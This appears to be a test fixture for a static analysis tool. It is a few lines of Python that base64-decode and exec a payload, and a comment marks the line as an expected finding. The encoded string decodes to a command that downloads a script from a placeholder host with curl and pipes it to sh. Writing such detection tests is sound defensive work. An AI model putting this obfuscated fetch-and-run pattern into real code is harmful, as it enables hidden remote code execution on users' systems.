import base64

payload = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgLXMgaHR0cHM6Ly94LmV4YW1wbGUvYSB8IHNoJyk="
exec(base64.b64decode(payload))  # want: finding
